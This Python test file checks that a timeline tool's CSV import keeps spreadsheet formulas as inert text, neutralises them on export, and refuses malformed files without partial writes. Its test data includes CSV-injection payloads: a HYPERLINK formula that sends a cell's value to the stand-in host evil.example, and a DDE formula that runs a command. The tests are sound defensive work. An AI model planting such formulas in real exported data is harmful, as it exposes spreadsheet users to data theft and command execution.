"""Hostile and broken CSV through `events.io.csv` and `timeline import`: formulas are kept as text
and neutralised again on export; wrong columns, broken quoting, huge fields, bad rows refuse the
whole file with one line naming the line, and the store is left exactly as it was."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from sec_helpers import manual, run_cli
from typer.testing import CliRunner

from events.io import csv as csv_io
from events.query import EventQuery
from events.store import Store
from timeline.cli import app

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rcarriage return",
    "'already quoted",
    "''two quotes",
    'plain title, with a comma and "quotes"',
    "multi\nline\ntitle",
]
DANGER = ("=", "+", "-", "@", "\t", "\r")


def events_with_titles(titles: list[str]) -> list:
    return [manual(f"f{i:02d}", t, dt.date(2020, 1, 1 + i)) for i, t in enumerate(titles)]


def export_text(evs: list) -> str:
    buf = io.StringIO(newline="")
    csv_io.write_events(evs, buf)
    return buf.getvalue()


def test_formulas_are_neutralised_on_export_and_read_back_as_written() -> None:
    evs = events_with_titles(FORMULAS)
    text = export_text(evs)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header = rows[0]
    for row in rows[1:]:
        for col, cell in zip(header, row, strict=True):
            assert not cell.startswith(DANGER), (col, cell)  # nothing a spreadsheet would evaluate
    back = csv_io.read_events(io.StringIO(text, newline=""), "x.csv")
    assert [ev.title for _, ev in back] == FORMULAS


def test_a_hand_written_formula_is_stored_as_text_and_neutralised_on_the_way_out(tmp_path: Path) -> None:
    header = ",".join(csv_io.REQUIRED)
    path = tmp_path / "formula.csv"
    path.write_text(f"{header}\r\nx1,\"=cmd|' /C calc'!A0\",2020-01-01,2020-01-01,day,2020-01-01\r\n")
    url = f"sqlite:///{tmp_path / 'f.sqlite'}"
    res = CliRunner().invoke(app, ["import", str(path), "--db", url])
    assert res.exit_code == 0, res.output
    with Store.open(url) as store:
        assert store.get_event("x1").title == "=cmd|' /C calc'!A0"
    out = CliRunner().invoke(app, ["export", "--db", url])
    assert ",'=cmd|' /C calc'!A0," in out.stdout


def _store_with_events(tmp_path: Path) -> tuple[str, list[dict]]:
    url = f"sqlite:///{tmp_path / 'import.sqlite'}"
    with Store.open(url) as store:
        for ev in events_with_titles(["Kept one", "Kept two", "Kept three"]):
            store.add_event(ev)
        snapshot = [e.model_dump() for e in store.query(EventQuery())]
    return url, snapshot


def good_rows(n: int) -> list[list[str]]:
    text = export_text([manual(f"g{i:03d}", f"Good event {i}", dt.date(2021, 1, 1)) for i in range(n)])
    return list(csv.reader(io.StringIO(text, newline="")))


def to_csv(rows: list[list[str]]) -> str:
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    return buf.getvalue()


def _bad_files() -> dict[str, tuple[str | bytes, str]]:
    rows = good_rows(60)
    header = rows[0]
    title = header.index("title")
    start = header.index("start")

    def with_row(i: int, row: list[str]) -> list[list[str]]:
        out = [r[:] for r in rows]
        out[i] = row
        return out

    missing = [r[:title] + r[title + 1 :] for r in rows]
    bad_date = rows[30][:]
    bad_date[start] = "2021-02-30"
    long_row = [*rows[40], "extra"]
    huge = rows[20][:]
    huge[title] = "x" * (csv_io.MAX_FIELD + 10)
    more = header.index("more_sources")
    bad_json = [*rows[7][:more], "[{not json", *rows[7][more + 1 :]]
    broken = to_csv(rows[:10]) + 'g999,"never closed,2021-01-01\r\n' + to_csv(rows[10:])
    return {
        "empty": ("", "empty"),
        "missing-column": (to_csv(missing), "missing column(s) title"),
        "unknown-column": (
            to_csv([[*header, "evil"], *[[*r, "1"] for r in rows[1:]]]),
            "unknown column(s) 'evil'",
        ),
        "repeated-column": (
            to_csv([[*header, "title"], *[[*r, "t"] for r in rows[1:]]]),
            "repeated column(s) title",
        ),
        "bad-date-line-31": (to_csv(with_row(30, bad_date)), "line 31: start '2021-02-30' is not a date"),
        "too-many-fields": (to_csv(with_row(40, long_row)), "line 41:"),
        "huge-field": (to_csv(with_row(20, huge)), "longer than"),
        "broken-quoting": (broken, "broken CSV"),
        "nul-byte": (to_csv(rows).replace("Good event 5", "Good\x00event 5"), "line 7: a field holds a NUL"),
        "not-utf8": (to_csv(rows).encode("utf-8") + "Café".encode("cp1252"), "not UTF-8"),
        "duplicate-id": (to_csv([*rows, rows[5]]), "appears twice"),
        "bad-json-more-sources": (to_csv(with_row(7, bad_json)), "more_sources is not valid JSON"),
    }


BAD = _bad_files()


@pytest.mark.parametrize("name", list(BAD))
def test_broken_csv_refuses_the_whole_file_and_writes_nothing(tmp_path: Path, name: str) -> None:
    content, message = BAD[name]
    path = tmp_path / f"{name}.csv"
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8", newline="")
    url, before = _store_with_events(tmp_path)
    res = CliRunner().invoke(app, ["import", str(path), "--db", url])
    assert res.exit_code != 0
    err = res.stderr.strip()
    assert len(err.splitlines()) == 1, err
    assert err.startswith("timeline: ") and message in err, err
    assert "Traceback" not in res.output
    with Store.open(url) as store:
        assert [
            e.model_dump() for e in store.query(EventQuery(include_deleted=True))
        ] == before  # nothing partial


@pytest.mark.slow
def test_the_real_command_refuses_broken_quoting_in_one_line(tmp_path: Path) -> None:
    content, _ = BAD["broken-quoting"]
    path = tmp_path / "broken.csv"
    path.write_text(str(content), encoding="utf-8", newline="")
    url, before = _store_with_events(tmp_path)
    res = run_cli("import", str(path), "--db", url)
    assert res.returncode != 0 and res.stdout == ""
    assert res.stderr.count("\n") == 1 and res.stderr.startswith("timeline: ") and "broken CSV" in res.stderr
    with Store.open(url) as store:
        assert [e.model_dump() for e in store.query(EventQuery())] == before


def test_a_good_file_after_a_refused_one_goes_in_whole(tmp_path: Path) -> None:
    url, before = _store_with_events(tmp_path)
    path = tmp_path / "good.csv"
    path.write_text(to_csv(good_rows(60)), encoding="utf-8", newline="")
    res = CliRunner().invoke(app, ["import", str(path), "--db", url])
    assert res.exit_code == 0, res.output
    assert "60 added" in res.stdout
    with Store.open(url) as store:
        assert len(store.query(EventQuery())) == len(before) + 60
